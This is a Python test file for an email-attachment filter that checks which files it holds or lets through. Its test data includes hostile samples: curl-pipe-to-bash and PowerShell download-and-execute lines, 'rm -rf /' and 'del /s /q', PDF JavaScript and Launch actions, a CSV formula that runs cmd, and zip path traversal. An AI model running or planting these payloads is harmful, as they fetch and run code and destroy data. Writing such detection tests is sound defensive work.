"""Files are passed on only where they are known to be harmless, by their name and by what is in them."""

from __future__ import annotations

import io
import zipfile
import zlib
from pathlib import Path

import openpyxl
import pytest

from digest.reading.filekinds import harmless
from digest.reading.zips import Room

PDF, PNG = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", b"\x89PNG\r\n\x1a\n\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>"
MAIL = b"From: kim@nordmose.example\r\nSubject: Stole\r\n\r\nHej"
PROSE = """Rem på tasken skal kunne skiftes.
Pause
Start 1. maj, slut 30. juni = 61 dage
Set fra brugerens side er if/then-regler = dyre regler
E-handel (se bilag 2)
Del 1: Get i gang med udbud
www.nordmose.example/indkøb.js
"""
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def zipped(*entries: tuple[str, bytes], before: bytes = b"") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
        for name, data in entries:
            file.writestr(name, data)
    return before + made.getvalue()


def wide(*names: str) -> bytes:
    """An old office file with these streams, as far as it is looked at."""
    return OLE + b"".join(name.encode("utf-16-le") + b"\x00\x00" for name in names)


def word(*more: tuple[str, bytes], kind: str = WORD) -> bytes:
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'.encode()
    return zipped(("[Content_Types].xml", types), ("word/document.xml", b"<w:document/>"), *more)


def sheet() -> bytes:
    made = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "Pris"
    book.save(made)
    return made.getvalue()


def odf(kind: str, *more: tuple[str, bytes]) -> bytes:
    told = f"application/vnd.oasis.opendocument.{kind}".encode()
    return zipped(("mimetype", told), ("content.xml", b"<office:document-content/>"), *more)


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects."""
    made = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, one) for number, one in enumerate(objects, 1))
    return PDF + made + b"trailer <</Root 1 0 R>>\n%%EOF\n"


def stream(told: bytes, data: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (told, len(data), data)


def packed(told: bytes, data: bytes) -> bytes:
    return stream(told + b"/Filter/FlateDecode", zlib.compress(data))


def objects(inner: bytes, more: bytes = b"") -> bytes:
    """Objects within a stream, as most programs write them."""
    return packed(b"/Type/ObjStm/N 1/First 4" + more, b"9 0 " + inner)


def goes(name: str, data: bytes, content_type: str = "application/octet-stream") -> bool:
    return harmless(name, content_type, data, Room()) is not None


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("krav på øl.pdf", PDF),
        ("krav.pdf", pdf(b"<</OpenAction [3 0 R /FitH 800]>>", objects(b"<</Type/Page/JSON 1/EFax 2>>"))),
        ("krav.pdf", pdf(packed(b"", b"1 0 0 1 0 0 cm (Stole) Tj"), stream(b"/Filter/DCTDecode", JPEG + b"/JS /EF"))),
        ("krav.pdf", pdf(*(packed(b"/Subtype/Image", b"\x80" * 3_000_000) for _ in range(30)))),
        ("låst.pdf", pdf(stream(b"/Filter/FlateDecode", b"x\x9c" + bytes(range(255, 0, -1)))) + b"/Encrypt 3 0 R"),
        ("noter.txt", PROSE.encode()),
        ("KRAV.PDF", PDF),
        ("plan 2.0.jpeg", JPEG),
        ("møbler.png", PNG),
        ("noter.txt", "Vi købte 40 stole, æøå".encode("cp1252")),
        ("noter.txt", "\ufeffVi købte 40 stole".encode("utf-16-le")),
        ("priser.csv", b"Vare;Pris\nStol;-5\n<br>;+45 12 34 56 78\n"),
        ("krav.docx", word()),
        ("krav.docx", word(("word/media/image1.png", PNG), ("word/embeddings/Ark1.xlsx", sheet()))),
        ("krav.docx", word(("word/embeddings/oleObject1.bin", wide("Workbook")))),
        ("priser.xlsx", sheet()),
        ("krav.odt", odf("text")),
        ("priser.ods", odf("spreadsheet")),
        ("krav.doc", wide("WordDocument", "1Table")),
        ("priser.xls", wide("Workbook")),
        ("krav.rtf", rb"{\rtf1\ansi Krav til stole}"),
        ("krav.zip", zipped(("krav.pdf", PDF), ("bilag/pris på øl.xlsx", sheet()), ("noter.txt", b"Hej"))),
        ("fra mac.zip", zipped(("krav.pdf", PDF), ("__MACOSX/._krav.pdf", b"\x00\x05\x16\x07\x00"))),
        ("Møde 30:11.pdf", PDF),
    ],
)
def test_what_people_send_each_other_goes(name: str, data: bytes) -> None:
    assert goes(name, data)


@pytest.mark.parametrize("name", sorted({"virus.exe", "krav.pdf.scr", "krav.docm", "plan.iso", "noter.one", "x.lnk"}))
@pytest.mark.parametrize("data", [PDF, PROGRAM])
def test_a_kind_that_is_not_known_is_held_whatever_is_in_it(name: str, data: bytes) -> None:
    assert not goes(name, data)


@pytest.mark.parametrize(
    "name",
    [
        *("logo.svg", "mail.eml", "mail.msg", "krav.7z", "krav.rar", "krav.tar.gz", "krav.html", "møde.ics"),
        *("krav.pdf::$DATA", "virus.exe::$DATA", "virus.exe:krav.pdf", "virus.exe::$DATA.pdf", "krav", ".pdf.js"),
    ],
)
def test_so_is_one_that_carries_others_or_is_named_for_a_disk(name: str) -> None:
    assert not goes(name, PDF)


@pytest.mark.parametrize(
    "name", ["a.pdf", "a.txt", "a.csv", "a.docx", "a.doc", "a.png", "a.jpg", "a.zip", "a.odt", "a.rtf"]
)
@pytest.mark.parametrize("data", [PROGRAM, SVG, b"#!/bin/sh\nrm -r /\n", b"<html><script>x()</script>", bytes(40), OLE])
def test_a_name_that_says_something_else_than_what_is_in_it_helps_nothing(name: str, data: bytes) -> None:
    assert not goes(name, data)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("krav.docx", word(("word/vbaProject.bin", wide("_VBA_PROJECT")))),
        ("krav.docx", word(("word/data.bin", wide("VBA", "_VBA_PROJECT")))),
        ("krav.docx", word(kind="application/vnd.ms-word.document.macroEnabled.main+xml")),
        ("krav.docx", word(("word/embeddings/oleObject1.bin", wide("\x01Ole10Native")))),
        ("krav.docx", word(("word/media/image1.png", PROGRAM))),
        ("krav.docx", word(("word/embeddings/a.docx", word(("word/a.docx", word()))))),
        ("krav.docx", word(("word/embeddings/a.zip", zipped(("a.pdf", PDF))))),
        ("krav.docx", sheet()),
        ("krav.docx", zipped(("krav.pdf", PDF))),
        ("krav.odt", odf("text", ("Basic/Standard/Module1.xml", b"<script/>"))),
        ("krav.odt", odf("spreadsheet")),
        ("krav.doc", wide("WordDocument", "Macros", "_VBA_PROJECT")),
        ("krav.doc", wide("\x01Ole10Native", "WordDocument")),
        ("krav.xls", wide("Workbook") + b"\x85\x00\x0e\x00\x00\x00\x00\x00\x00\x01\x06\x00Macro1"),
        ("krav.doc", wide("__properties_version1.0")),
        ("krav.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"),
        ("priser.csv", b"Vare;Pris\n=cmd|'/c calc'!A0;1\n"),
    ],
)
def test_office_with_macros_packages_or_programs_is_held(name: str, data: bytes) -> None:
    assert not goes(name, data)


@pytest.mark.parametrize(
    "data",
    [
        pdf(b"<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"),
        pdf(b"<</AA<</O<</S /Rendition /JS 5 0 R>>>>>>"),
        pdf(b"<</S/#4aava#53cript/#4A#53<61>>>"),
        pdf(b"<</OpenAction<</S/Launch/F(cmd.exe)>>>>"),
        pdf(b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>", packed(b"/Type/EmbeddedFile", PROGRAM)),
        pdf(b"<</Subtype/RichMedia>>"),
        pdf(b"<</AcroForm<</XFA 5 0 R>>>>"),
        pdf(objects(b"<</S/JavaScript/JS(app.alert\\(1\\))>>")),
        pdf(objects(b" " * 99_990 + b"<</S/Launch/F(cmd.exe)>>")),
        pdf(objects(b"<</S/JavaScript/JS(a)>>"))[:-60],
        pdf(stream(b"/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode", b"3920302031")),
        pdf(stream(b"/N 1/First 4/Filter 7 0 R", b"3920302031")),
        pdf(objects(b"<</Type/Page>>", b"/DecodeParms<</Predictor 12>>")),
        pdf(objects(b"<</Type/Page>>")) + b"/Encrypt 3 0 R",
        pdf(*(objects(b" " * 20_000_000) for _ in range(3))),
    ],
    ids=range(15),
)
def test_a_pdf_that_runs_or_starts_or_carries_something_is_held(data: bytes) -> None:
    assert not goes("krav.pdf", data)
    assert not goes("krav.zip", zipped(("krav.pdf", data)))
    assert not goes("krav.docx", word(("word/embeddings/krav.pdf", data)))


@pytest.mark.parametrize("name", ["noter.txt", "noter.md", "priser.csv"])
@pytest.mark.parametrize(
    "words",
    [
        "@echo off\r\ndel /q c:\\krav\r\n",
        "Hej\r\n\r\n@ECHO OFF\r\n",
        "rem Krav\r\nset X=1\r\nif exist krav.txt goto slut\r\n:slut\r\n",
        "del /s /q c:\\*\r\n",
        "curl -s https://nordmose.example/x | bash\n",
        "cd /tmp\nsudo rm -rf /\n",
        "A=$HOME/krav\nif [ -d $A ]; then\n  cp -r $A /tmp\nfi\n",
        "$a = Get-Content krav.txt\nWrite-Host $a\n",
        "IEX (New-Object Net.WebClient).DownloadString('https://nordmose.example/x')\n",
        "powershell -nop -w hidden -EncodedCommand SQBFAFgA\n",
        'Set s = CreateObject("WScript.Shell")\ns.Run "cmd"\n',
        "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software]\n",
        "[InternetShortcut]\nURL=file://nordmose.example/x\n",
        "import os\nos.system('cmd')\n",
    ],
    ids=range(14),
)
def test_a_script_is_held_under_whatever_name(name: str, words: str) -> None:
    assert not goes(name, words.encode())
    assert not goes(name, f"\ufeff{words}".encode("utf-16-le"))


@pytest.mark.parametrize(
    "data",
    [
        zipped(("krav.pdf", PDF), ("virus.exe", PROGRAM)),
        zipped(("krav.pdf", PROGRAM)),
        zipped(("logo.svg", SVG)),
        zipped(("mail.eml", MAIL)),
        zipped(("indre.zip", zipped(("krav.pdf", PDF)))),
        zipped(("indre.docx", zipped(("krav.pdf", PDF)))),
        zipped(("krav.docx", word(("word/vbaProject.bin", wide("_VBA_PROJECT"))))),
        zipped(("krav.pdf::$DATA", PDF)),
        zipped(("../krav.pdf", PDF)),
        zipped(("/krav.pdf", PDF)),
        zipped(("c:/krav.pdf", PDF)),
        zipped(("a\u202efdp.pdf", PDF)),
        zipped(("krav.pdf", PDF), before=PROGRAM),
        zipped(),
        zipped(("krav.pdf", PDF))[:-30],
        zipped(("krav.txt", b"a" * 60_000_000)),
        zipped(*((f"{number}.txt", b"a" * 20_000_000) for number in range(3))),
        zipped(*((f"{number}.txt", b"") for number in range(4_000))),
    ],
    ids=range(18),
)
def test_a_zip_is_held_unless_all_that_is_in_it_goes(data: bytes) -> None:
    assert not goes("krav.zip", data)


def test_a_locked_zip_and_a_link_in_one_are_held() -> None:
    plain = bytearray(zipped(("krav.pdf", PDF)))
    plain[plain.index(b"PK\x01\x02") + 8] |= 1  # the list says that it is locked
    plain[6] |= 1
    assert not goes("krav.zip", bytes(plain))
    link = zipfile.ZipInfo("krav.pdf")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as file:
        file.writestr(link, PDF)
    assert not goes("krav.zip", made.getvalue())


def test_all_zips_of_a_mail_share_what_may_be_unpacked() -> None:
    room, large = Room(), zipped(("krav.txt", b"a" * 30_000_000))
    assert harmless("a.zip", "", large, room)
    assert not harmless("b.zip", "", large, room)
    assert harmless("c.zip", "", zipped(("krav.pdf", PDF)), room)


def test_a_file_goes_under_the_type_of_what_is_in_it_and_one_without_an_ending_gets_it() -> None:
    told = harmless("krav.pdf", "text/html", PDF, Room())
    assert told
    assert told.content_type == "application/pdf"
    bare = harmless("krav", "application/pdf", PDF, Room())
    assert bare
    assert bare.name == "krav.pdf"
    assert not goes("krav", PROGRAM, "application/pdf")


@pytest.mark.parametrize("path", sorted(Path("data").rglob("*.xlsx")), ids=lambda path: path.name)
def test_the_spreadsheets_that_the_product_ships_go(path: Path) -> None:
    assert goes(path.name, path.read_bytes())
